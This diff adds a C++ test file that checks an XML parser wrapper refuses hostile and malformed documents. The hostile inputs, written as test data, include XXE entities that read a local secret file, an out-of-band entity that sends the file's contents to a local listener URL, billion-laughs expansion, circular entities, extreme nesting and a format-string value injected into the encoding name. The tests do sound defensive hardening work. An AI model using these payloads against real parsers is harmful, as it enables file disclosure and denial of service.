@@ -1,0 +1,245 @@
+// Documents that mean harm, or are broken: each must be refused, soon and without a trace.
+#include "tests/xml/XmlFixture.h"
+
+#include "platform/system/CodePage.h"
+
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <string>
+#include <utility>
+#include <vector>
+
+namespace vnbytstr::test {
+namespace {
+
+std::string Times(std::size_t count, const std::string& text) {
+    std::string all;
+    for (std::size_t i = 0; i < count; ++i)
+        all += text;
+    return all;
+}
+
+/// A port of this machine at which nobody may knock.
+class Listener {
+public:
+    Listener() : m_socket(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)) {
+        sockaddr_in address{};
+        address.sin_family = AF_INET;
+        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        socklen_t size = sizeof address;
+        EXPECT_EQ(::bind(m_socket, reinterpret_cast<sockaddr*>(&address), size), 0);
+        EXPECT_EQ(::listen(m_socket, 5), 0);
+        EXPECT_EQ(::getsockname(m_socket, reinterpret_cast<sockaddr*>(&address), &size), 0);
+        m_url = "http://127.0.0.1:" + std::to_string(ntohs(address.sin_port)) + "/x";
+    }
+    ~Listener() { ::close(m_socket); }
+    Listener(const Listener&) = delete;
+    Listener& operator=(const Listener&) = delete;
+
+    const std::string& Url() const { return m_url; }
+    bool WasAsked() const { return ::accept(m_socket, nullptr, nullptr) >= 0; }
+
+private:
+    int m_socket;
+    std::string m_url;
+};
+
+class XercesHostileTest : public XmlTest {
+protected:
+    void ExpectRefused(const std::string& document, const std::string& name) {
+        ASSERT_TRUE(m_xml.Create("before"));
+        m_files.Write("hostile.xml", document);
+        EXPECT_FALSE(m_xml.LoadFile(m_files.File("hostile.xml").c_str())) << name;
+        EXPECT_NE(m_xml.GetLastParseError().m_severity, SXMLParseError::kNone) << name;
+        XMLElement root;
+        EXPECT_FALSE(m_xml.GetRootElement(root)) << name;
+        if (document.find('\0') == std::string::npos) {
+            EXPECT_FALSE(Load(document)) << name;
+            EXPECT_FALSE(m_xml.GetRootElement(root)) << name;
+        }
+        EXPECT_TRUE(Load("<alive/>")) << name;
+    }
+};
+
+TEST_F(XercesHostileTest, BrokenDocuments) {
+    const std::pair<const char*, std::string> documents[] = {
+        {"empty", ""},
+        {"blanks", " \n\t "},
+        {"text", "no markup at all"},
+        {"two roots", "<a/><b/>"},
+        {"text behind the root", "<a/>x"},
+        {"text before the root", "x<a/>"},
+        {"not closed", "<a><b></b>"},
+        {"crossed", "<a><b></a></b>"},
+        {"closed twice", "<a></a></a>"},
+        {"case of the end tag", "<a></A>"},
+        {"attribute twice", "<a x='1' x='2'/>"},
+        {"attribute without quotes", "<a x=1/>"},
+        {"attribute without value", "<a x/>"},
+        {"attribute not closed", "<a x='1/>"},
+        {"attributes run together", "<a x='1'y='2'/>"},
+        {"less-than in an attribute", "<a x='<'/>"},
+        {"name begins with a digit", "<1a/>"},
+        {"blank before the name", "< a/>"},
+        {"lone ampersand", "<a>&</a>"},
+        {"reference without end", "<a>&amp</a>"},
+        {"undeclared entity", "<a>&nobody;</a>"},
+        {"reference to NUL", "<a>&#0;</a>"},
+        {"reference to a control", "<a>&#x1;</a>"},
+        {"reference to a surrogate", "<a>&#xD800;</a>"},
+        {"reference past Unicode", "<a>&#x110000;</a>"},
+        {"reference beyond all numbers", "<a>&#99999999999999999999999;</a>"},
+        {"section end in text", "<a>]]></a>"},
+        {"section not closed", "<a><![CDATA[x</a>"},
+        {"comment not closed", "<a><!-- x</a>"},
+        {"comment with two dashes", "<a><!-- x -- y --></a>"},
+        {"instruction not closed", "<a><?p x</a>"},
+        {"instruction named xml", "<a><?XML x?></a>"},
+        {"late declaration", " <?xml version='1.0'?><a/>"},
+        {"declaration without version", "<?xml encoding='utf-8'?><a/>"},
+        {"unknown version", "<?xml version='9.9'?><a/>"},
+        {"NUL in text", std::string("<a>\0</a>", 8)},
+        {"NUL in a name", std::string("<a\0b/>", 6)},
+        {"NUL in an attribute", std::string("<a x='\0'/>", 10)},
+        {"only NULs", std::string(100, '\0')},
+        {"control in text", "<a>\x01</a>"},
+        {"escape in an attribute", "<a x='\x1B'/>"},
+        {"unknown encoding", "<?xml version='1.0' encoding='no-such-thing'?><a/>"},
+        {"encoding with an injection", "<?xml version='1.0' encoding='../../x%s%n'?><a/>"},
+        {"says UTF-16, is UTF-8", "<?xml version='1.0' encoding='utf-16'?><a/>"},
+        {"says UTF-8, is Latin-1", "<?xml version='1.0' encoding='utf-8'?><a>\xE4</a>"},
+        {"says UTF-8, long form", "<?xml version='1.0' encoding='utf-8'?><a>\xC0\xAF</a>"},
+        {"says UTF-8, surrogates", "<?xml version='1.0' encoding='utf-8'?><a>\xED\xA0\x80</a>"},
+        {"says UTF-8, cut", "<?xml version='1.0' encoding='utf-8'?><a>\xE2\x82"},
+        {"mark of UTF-16 before ASCII", "\xFE\xFF<a/>"},
+        {"odd bytes of UTF-16", std::string("\xFF\xFE<\0a\0/\0>", 9)},
+        {"lone surrogate in UTF-16", std::string("\xFF\xFE<\0a\0>\0\x00\xD8<\0/\0a\0>\0", 18)},
+        {"mark of UTF-32 before ASCII", std::string("\0\0\xFE\xFF<a/>", 8)},
+        {"EBCDIC that is none", "\x4C\x6F\xA7\x94 nonsense"},
+        {"noncharacter", "<a>\xEF\xBF\xBF</a>"},
+    };
+    const ScopedCodePage page(65001); // where a broken text has no second chance
+    for (const auto& [name, document] : documents)
+        ExpectRefused(document, name);
+    EXPECT_TRUE(m_system.OpenHandles().empty());
+}
+
+TEST_F(XercesHostileTest, EveryTruncationOfADocument) {
+    const std::string whole = "<?xml version='1.0' encoding='utf-8'?><!DOCTYPE r [<!ENTITY e 'x'>"
+                              "<!ATTLIST r a CDATA 'd'>]><!--c--><r b='\xC3\xA4&#x41;'><?p i?>"
+                              "<![CDATA[<]]>&e;<s/>\xE6\x97\xA5</r>";
+    for (std::size_t size = 0; size < whole.size(); ++size)
+        ExpectRefused(whole.substr(0, size), std::to_string(size));
+    EXPECT_TRUE(Load(whole));
+}
+
+TEST_F(XercesHostileTest, DocumentTypesThatReachOutOrExplode) {
+    const Listener listener;
+    const std::string secret = m_files.File("secret");
+    m_files.Write("secret", "<!ENTITY found 'secret'>");
+    const auto type = [](const std::string& declarations, const std::string& content = "") {
+        return "<!DOCTYPE a [" + declarations + "]><a>" + content + "</a>";
+    };
+    std::string tenfold = "<!ENTITY l0 'lol'>";
+    for (int i = 1; i < 10; ++i) {
+        const std::string below = "&l" + std::to_string(i - 1) + ";";
+        tenfold += "<!ENTITY l" + std::to_string(i) + " '" + Times(10, below) + "'>";
+    }
+    const std::pair<const char*, std::string> documents[] = {
+        {"file as entity", type("<!ENTITY e SYSTEM '" + secret + "'>", "&e;")},
+        {"file as URI", type("<!ENTITY e SYSTEM 'file://" + secret + "'>", "&e;")},
+        {"file beside", type("<!ENTITY e SYSTEM 'secret'>", "&e;")},
+        {"public", type("<!ENTITY e PUBLIC 'p' '" + secret + "'>", "&e;")},
+        {"network", type("<!ENTITY e SYSTEM '" + listener.Url() + "'>", "&e;")},
+        {"file in the document type", type("<!ENTITY % e SYSTEM '" + secret + "'>%e;", "&found;")},
+        {"network in the document type", type("<!ENTITY % e SYSTEM '" + listener.Url() + "'>%e;")},
+        {"smuggled out",
+         type("<!ENTITY % f SYSTEM '" + secret + "'><!ENTITY % s \"<!ENTITY e SYSTEM '" +
+                  listener.Url() + "?%f;'>\">%s;",
+              "&e;")},
+        {"file in an attribute", "<!DOCTYPE a [<!ENTITY e SYSTEM '" + secret + "'>]><a x='&e;'/>"},
+        {"external in an entity",
+         type("<!ENTITY e SYSTEM '" + secret + "'><!ENTITY f '&e;'>", "&f;")},
+        {"external type defines it", "<!DOCTYPE a SYSTEM '" + secret + "'><a>&found;</a>"},
+        {"unparsed entity", type("<!NOTATION n SYSTEM 'n'><!ENTITY e SYSTEM 'x' NDATA n>", "&e;")},
+        {"tenfold tenfold", type(tenfold, "&l9;")},
+        {"tenfold in an attribute", "<!DOCTYPE a [" + tenfold + "]><a x='&l9;'/>"},
+        {"tenfold in a default", "<!DOCTYPE a [" + tenfold + "<!ATTLIST a x CDATA '&l9;'>]><a/>"},
+        {"1001 references", type("<!ENTITY e 'x'>", Times(1001, "&e;"))},
+        {"itself", type("<!ENTITY e '&e;'>", "&e;")},
+        {"in a circle", type("<!ENTITY e '&f;'><!ENTITY f '&g;'><!ENTITY g '&e;'>", "&e;")},
+        {"in a circle in an attribute",
+         "<!DOCTYPE a [<!ENTITY e '&f;'><!ENTITY f '&e;'>]><a x='&e;'/>"},
+        {"parameter in a circle", type("<!ENTITY % e '&#37;f;'><!ENTITY % f '&#37;e;'>%e;")},
+        {"entity not balanced", type("<!ENTITY e '<b>'>", "&e;</b>")},
+        {"entity closes its parent", type("<!ENTITY e '</a><a>'>", "&e;")},
+        {"less-than from an entity", "<!DOCTYPE a [<!ENTITY e '&#60;'>]><a x='&e;'/>"},
+        {"type not closed", "<!DOCTYPE a [<!ENTITY e 'x'"},
+        {"two types", "<!DOCTYPE a><!DOCTYPE a><a/>"},
+        {"nested groups", "<!DOCTYPE a [<!ELEMENT a " + Times(200000, "(")},
+        {"nested sequences, closed",
+         "<!DOCTYPE a [<!ELEMENT a " + Times(100000, "(b,") + "b" + Times(100000, ")") + ">]><a/>"},
+        {"conditional section", type("<![INCLUDE[<!ENTITY e 'x'>]]>", "&e;")},
+        {"parameter within a declaration", type("<!ENTITY % e 'CDATA'><!ATTLIST a x %e; 'y'>")},
+        {"unknown declaration", type("<!NONSENSE a>")},
+    };
+    for (const auto& [name, document] : documents)
+        ExpectRefused(document, name);
+    EXPECT_FALSE(listener.WasAsked());
+    EXPECT_TRUE(Load(type("<!ENTITY e 'x'>", Times(999, "&e;"))));
+
+    // These ask for files too, in ways that are not for this parser: what they name stays text.
+    for (const std::string& document :
+         {"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='" + secret + "'/></a>",
+          "<a xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation='" +
+              listener.Url() + "'/>",
+          "<?xml-stylesheet href='" + listener.Url() + "'?><a/>",
+          "<!DOCTYPE a SYSTEM '" + listener.Url() + "'><a/>",
+          "<!DOCTYPE a PUBLIC 'p' '" + secret + "' [<!ENTITY e 'x'>]><a>&e;</a>"})
+        EXPECT_TRUE(Load(document)) << document;
+    EXPECT_FALSE(listener.WasAsked());
+    EXPECT_EQ(Text().find("secret'"), std::string::npos);
+}
+
+TEST_F(XercesHostileTest, DepthEndsAtAThousandLevels) {
+    const auto nested = [](std::size_t depth) {
+        return Times(depth, "<a>") + Times(depth, "</a>");
+    };
+    EXPECT_TRUE(Load(nested(1000)));
+    CString text;
+    EXPECT_TRUE(m_xml.GetXML(text));
+    EXPECT_TRUE(m_xml.Save(m_files.File("x").c_str(), true));
+    ExpectRefused(nested(1001), "1001 levels");
+    EXPECT_FALSE(Load(nested(1001)));
+    EXPECT_NE(m_xml.GetLastParseError().m_strMessage.Find("1000"), -1);
+    EXPECT_EQ(m_xml.GetLastParseError().m_charNo, 3004u);
+    ExpectRefused(nested(200000), "200000 levels");
+    ExpectRefused(Times(1000000, "<a>"), "never closed");
+    ExpectRefused("<!DOCTYPE a [<!ENTITY e '" + Times(600, "<b>") + Times(600, "</b>") + "'>]>" +
+                      Times(600, "<a>") + "&e;" + Times(600, "</a>"),
+                  "depth from an entity");
+    EXPECT_TRUE(Load("<a>" + Times(50000, "<b/>") + "</a>")); // wide is not deep
+}
+
+TEST_F(XercesHostileTest, GiantPieces) {
+    const std::string big(5u << 20, 'x');
+    EXPECT_TRUE(Load("<a x='" + big + "'/>"));
+    EXPECT_EQ(Attribute(Root(), "x").size(), big.size());
+    EXPECT_TRUE(Load("<a>" + big + "</a>"));
+    EXPECT_TRUE(Load("<" + big + "/>"));
+    EXPECT_TRUE(Load("<a><!--" + big + "--></a>"));
+    ExpectRefused("<a x='" + big, "giant attribute, cut");
+    ExpectRefused("<" + big, "giant name, cut");
+    ExpectRefused("<!DOCTYPE a [<!ENTITY e '" + big, "giant entity, cut");
+    std::string many = "<a";
+    for (int i = 0; i < 20000; ++i)
+        many += " a" + std::to_string(i * 7919 % 20011) + "='x'";
+    EXPECT_TRUE(Load(many + "/>"));
+    ExpectRefused(many + " a5='y' a5='z'/>", "one of many twice");
+}
+
+} // namespace
+} // namespace vnbytstr::test
